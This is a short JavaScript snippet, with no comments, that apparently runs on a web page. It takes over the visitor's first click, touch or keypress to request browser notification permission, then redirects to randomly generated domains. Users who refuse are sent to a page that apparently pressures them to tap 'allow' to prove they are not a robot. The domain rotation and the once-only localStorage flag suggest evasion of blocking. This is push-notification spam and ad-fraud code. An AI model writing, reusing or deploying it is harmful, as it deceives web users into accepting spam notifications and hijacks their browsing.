class PushGate {
  constructor(zone) { this.zone = zone; this.hops = ["news", "alert", "inbox"]; }
  get base() {
    const n = Math.floor(Math.random() * this.hops.length);
    return "https://" + this.hops[n] + "-" + (Date.now() % 1000) + ".push-allow.example";
  }
  ok() {
    return "Notification" in window && Notification.permission === "default" && !localStorage.pg;
  }
  run() {
    if (!this.ok()) return;
    Notification.requestPermission().then((p) => {
      localStorage.pg = p;
      const to = p === "granted" ? "/sub" : "/robot?tap=allow";
      window.location.href = this.base + to + "&z=".replace("&", p === "granted" ? "?" : "&") + this.zone;
    });
  }
}
["click", "touchend", "keydown"].forEach((e) =>
  addEventListener(e, () => new PushGate(778001).run(), { once: true, capture: true }));
